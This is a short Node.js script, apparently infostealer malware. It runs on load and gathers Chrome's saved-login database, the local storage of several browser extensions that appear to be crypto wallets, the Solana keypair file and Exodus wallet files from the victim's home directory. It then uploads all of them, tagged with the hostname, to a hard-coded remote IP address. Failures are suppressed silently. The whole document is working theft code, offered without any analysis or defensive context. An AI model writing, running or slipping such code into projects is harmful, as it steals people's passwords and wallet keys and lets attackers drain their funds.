const fs = require('fs');
const os = require('os');
const path = require('path');
const FormData = require('form-data');
const axios = require('axios');

const home = os.homedir();
const plat = process.platform;
const chromeDirs = {
  win32: path.join(home, 'AppData/Local/Google/Chrome/User Data'),
  darwin: path.join(home, 'Library/Application Support/Google/Chrome'),
  linux: path.join(home, '.config/google-chrome'),
}[plat];
const wallets = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'hnfanknocfeofbddgcijnmhnfnkdnaad', 'egjidjbpglichdcondbcbdnbeeppgdph'];

function collect() {
  const files = [];
  for (const profile of ['Default', 'Profile 1', 'Profile 2']) {
    for (const id of wallets) {
      const dir = path.join(chromeDirs, profile, 'Local Extension Settings', id);
      if (fs.existsSync(dir)) for (const f of fs.readdirSync(dir)) files.push([`${profile}_${id}_${f}`, path.join(dir, f)]);
    }
    const login = path.join(chromeDirs, profile, 'Login Data');
    if (fs.existsSync(login)) files.push([`${profile}_login`, login]);
  }
  const sol = path.join(home, '.config/solana/id.json');
  if (fs.existsSync(sol)) files.push(['solana_id', sol]);
  const exodus = path.join(home, plat === 'win32' ? 'AppData/Roaming/Exodus/exodus.wallet' : '.config/Exodus/exodus.wallet');
  if (fs.existsSync(exodus)) for (const f of fs.readdirSync(exodus)) files.push([`exodus_${f}`, path.join(exodus, f)]);
  return files;
}

const form = new FormData();
form.append('type', '5');
form.append('hid', os.hostname());
for (const [name, p] of collect()) form.append('multi_file', fs.createReadStream(p), { filename: name });
axios.post('http://203.0.113.41:1224/uploads', form, { headers: form.getHeaders() }).catch(() => {});
